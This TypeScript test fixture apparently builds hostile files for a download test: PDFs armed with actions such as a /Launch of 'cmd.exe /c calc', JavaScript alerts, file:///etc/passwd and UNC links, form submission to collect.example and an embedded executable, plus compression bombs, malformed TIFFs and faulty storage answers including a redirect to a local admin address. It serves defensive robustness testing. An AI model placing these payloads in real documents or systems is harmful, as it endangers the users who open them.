import { pngAround } from '../samples/made-png.ts';
import { type MadePage, madeTiff } from '../samples/made-tiff.ts';
import { packedRun } from '../samples/packed-run.ts';
import { type Seeded, seeded } from '../seeded.ts';

/** A file as hostile storage serves it. */
export interface HostileFile {
  name: string;
  /** What must come of the transfer; a file that comes whole has exactly the bytes that were sent. */
  expected: 'whole' | 'error' | 'either';
  /** Makes the answer: only for who sends it, because some files take much memory. */
  serve(): ServedFile;
}

/** An answer of storage. */
export interface ServedFile {
  status: number;
  headers: Record<string, string>;
  chunks(): Iterable<Buffer>;
}

const MiB = 1024 * 1024;
/** Signs the links of the campaign. */
export const plantedSignature = '5ec2e75ec2e7a11ce0b0bca7015ec2e7';
/** What one file may have in this campaign, in bytes. */
export const ceiling = 8 * MiB;

const runs = new Map<string, Buffer>();

/**
 * The file with this number: the same for the same seed. Some are armed, some damaged, some served by storage
 * that errs on purpose.
 */
export function hostileFile(seed: number, number: number): HostileFile {
  const random = seeded(seed + number * 104_729);
  const kind = random();
  const pdf = () => armedPdf(number, seeded(seed + number * 104_729 + 1));
  if (kind < 0.25) {
    const fault = faults[Math.floor(random() * faults.length)];
    if (!fault) throw new Error('no faults are known');
    const [name, expected, serve] = fault;
    return { name, expected, serve: () => serve(pdf()) };
  }
  if (kind < 0.45) return { name: 'damaged', expected: 'either', serve: () => whole(damaged(pdf(), random)) };
  if (kind < 0.49) return { name: 'scan', expected: 'whole', serve: () => whole(scan(random), tiffType) };
  if (kind < 0.52)
    return { name: 'picture', expected: 'whole', serve: () => whole(picture(random), pngType) };
  return { name: 'armed', expected: 'whole', serve: () => whole(pdf()) };
}

const type = { 'content-type': 'application/pdf' };
const tiffType = { 'content-type': 'image/tiff' };
const pngType = { 'content-type': 'image/png' };

function whole(content: Buffer, headers: Record<string, string> = {}): ServedFile {
  return {
    status: 200,
    chunks: () => [content],
    headers: { ...type, 'content-length': String(content.length), ...headers },
  };
}

type Fault = readonly [name: string, expected: HostileFile['expected'], serve: (pdf: Buffer) => ServedFile];

/** What storage does wrong, beside the file itself. */
const faults: readonly Fault[] = [
  [
    'a hash that is not its own',
    'error',
    (pdf) => whole(pdf, { 'x-goog-hash': 'crc32c=AAAAAA==,md5=1B2M2Y8AsgTpgAmY7PhCfg==' }),
  ],
  ['an error page', 'error', () => whole(Buffer.from('<html>error</html>'), { 'content-type': 'text/html' })],
  ['nothing', 'error', () => whole(Buffer.alloc(0))],
  ['no end', 'error', () => ({ status: 200, headers: type, chunks: endless })],
  ['more than it may have', 'error', (pdf) => whole(pdf, { 'content-length': String(ceiling * 4) })],
  [
    'a redirect',
    'error',
    () => ({ status: 302, headers: { location: 'http://127.0.0.1:1/admin' }, chunks: () => [] }),
  ],
  [
    'a refusal that repeats the link',
    'error',
    () => ({
      status: 403,
      headers: { 'x-guploader-uploadid': plantedSignature },
      chunks: () => [Buffer.from(`<Error><Code>AccessDenied</Code><D>${plantedSignature}</D></Error>`)],
    }),
  ],
  [
    'headers that repeat the link',
    'whole',
    (pdf) => whole(pdf, { etag: `"${plantedSignature}"`, 'x-guploader-uploadid': plantedSignature }),
  ],
  [
    'a rest that nobody asked for',
    'error',
    (pdf) => ({
      status: 206,
      headers: { ...type, 'content-range': `bytes 5-9/${pdf.length}` },
      chunks: () => [pdf.subarray(5, 10)],
    }),
  ],
  // As Electron's network gives what it has unpacked itself.
  ['said to be packed, and is not', 'whole', (pdf) => whole(pdf, { 'content-encoding': 'gzip' })],
  ['coded in a way that nobody reads', 'error', (pdf) => whole(pdf, { 'content-encoding': 'br' })],
];

function* endless(): Generator<Buffer> {
  yield Buffer.from('%PDF-1.7\n');
  const chunk = Buffer.alloc(64 * 1024, 32);
  for (;;) yield chunk;
}

function damaged(pdf: Buffer, random: Seeded): Buffer {
  const copy = Buffer.from(pdf);
  if (random() < 0.3) return copy.subarray(0, 10 + Math.floor(random() * (copy.length - 10)));
  for (let count = 1 + Math.floor(random() * 30); count > 0; count--)
    copy[8 + Math.floor(random() * (copy.length - 8))] = Math.floor(random() * 256);
  return copy;
}

/**
 * A TIFF of one strip, of some, of as many as are read, in one page or in a thousand, or of more; now and
 * then damaged.
 */
function scan(random: Seeded): Buffer {
  const [pages, strips, bytes] = scans[Math.floor(random() * scans.length)] ?? [1, 1, 1];
  const page: MadePage = {
    fields: { 256: 8, 257: strips, 258: 1, 259: 1, 262: 0, 278: 1 },
    strips: Array.from({ length: strips }, () => Buffer.alloc(bytes)),
  };
  const tiff = madeTiff(Array.from({ length: pages }, () => page));
  return random() < 0.4 ? damaged(tiff, random) : tiff;
}

/** Pages, strips in each, bytes of a strip. */
const scans = [
  [1, 1, 1],
  [1, 200, 4_096],
  [1, 20_000, 1],
  [1_000, 20, 1],
  [1, 20_001, 1],
] as const;

/**
 * A PNG with far more packed than its file has, now and then damaged: gigabytes behind a header of few
 * pixels, or as much as a picture may have.
 */
function picture(random: Seeded): Buffer {
  const [size, type, isInterlaced, times] = pictures[Math.floor(random() * pictures.length)] ?? pictures[0];
  const bytes = size * size * (samples[type] ?? 1) + (isInterlaced ? (size / 8) * 15 : size);
  const png = pngAround({ width: size, height: size, type, isInterlaced }, run(0, bytes * times));
  return random() < 0.2 ? damaged(png, random) : png;
}

/** Pixels of a side, type of colours, whether it is interlaced, how often its pixels are packed in it. */
const pictures = [
  [8, 0, false, 25_000_000],
  [6_304, 6, false, 1],
  [6_304, 2, false, 1],
  [6_304, 6, false, 12],
  [4_720, 2, true, 1],
  [6_304, 6, true, 1],
] as const;

const samples: Readonly<Record<number, number>> = { 0: 1, 2: 3, 6: 4 };

const actions: readonly string[] = [
  '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  '<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\a.pdf) /D [0 /Fit] >>',
  '<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>',
  '<< /S /URI /URI (file:///etc/passwd) >>',
  '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
  '<< /S /URI /URI (\\\\\\\\server\\\\share) >>',
  '<< /S /SubmitForm /F (https://collect.example/) /Flags 0 >>',
  '<< /S /ImportData /F (data.fdf) >>',
  '<< /S /Rendition /OP 0 >>',
  '<< /S /Named /N /Print /Next << /S /JavaScript /JS (x) >> >>',
  '<< /S /Hide /T (a) /H true >>',
];

/**
 * A PDF of one page with whatever readers have been attacked with, written by hand, so that no library makes
 * it good.
 */
function armedPdf(number: number, random: Seeded): Buffer {
  const action = actions[Math.floor(random() * actions.length)] ?? '';
  const has = (share: number) => random() < share;
  const annotations = [
    ...(has(0.6) ? [`<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>`] : []),
    ...(has(0.3)
      ? [
          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A ${action} /AA << /E ${action} >> >>`,
        ]
      : []),
    ...(has(0.2) ? ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>'] : []),
    ...(has(0.2) ? ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>'] : []),
    ...(has(0.2) ? ['<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A 9 0 R >>'] : []),
  ];
  const content = `BT /F1 12 Tf 20 100 Td (paper ${number}) Tj ET`;
  const kids = has(0.05) ? '3 0 R 2 0 R' : has(0.05) ? '3 0 R 3 0 R' : '3 0 R';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${has(0.5) ? `/OpenAction ${action}` : ''} ${has(0.3) ? `/AA << /WC ${action} >>` : ''} ${has(0.4) ? '/Names << /JavaScript << /Names [(a) 9 0 R] >> /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >>' : ''} ${has(0.2) ? '/AcroForm << /Fields [] /XFA (x) >>' : ''} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${has(0.1) ? 99_999_999 : 1} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${has(0.05) ? '1e38 1e38' : '200 200'}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${has(0.3) ? `/AA << /O ${action} >>` : ''} /Annots [${annotations.join(' ')}] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Title (x) >>',
    '<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZx\nendstream',
    '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 7 0 R >> >>',
    action,
  ].map((text): Buffer => Buffer.from(text, 'latin1'));
  if (has(0.02)) objects.push(objectBomb());
  // More than the contents of a file may have, and less.
  if (has(0.02)) objects[3] = stream('', run(32, (has(0.5) ? 2_048 : 192) * MiB));
  return file(objects);
}

/** Packed objects that are 64 MiB unpacked. */
function objectBomb(): Buffer {
  return stream('/Type /ObjStm /N 1 /First 5', run(32, 64 * MiB));
}

/** A run of bytes, packed once for all files that have it. */
function run(byte: number, length: number): Buffer {
  const key = `${byte} ${length}`;
  const made = runs.get(key) ?? packedRun(byte, length);
  runs.set(key, made);
  return made;
}

function stream(entries: string, packed: Buffer): Buffer {
  const head = `<< ${entries} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]);
}

function file(objects: readonly Buffer[]): Buffer {
  const buffers: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = buffers[0]?.length ?? 0;
  const offsets: number[] = [];
  const add = (part: Buffer) => {
    buffers.push(part);
    length += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), object, Buffer.from('\nendobj\n')]));
  }
  const start = length;
  const rows = offsets.map((index) => `${String(index).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  add(Buffer.from(`xref\n0 ${count}\n0000000000 65535 f \n${rows}`));
  add(Buffer.from(`trailer\n<< /Size ${count} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(buffers);
}
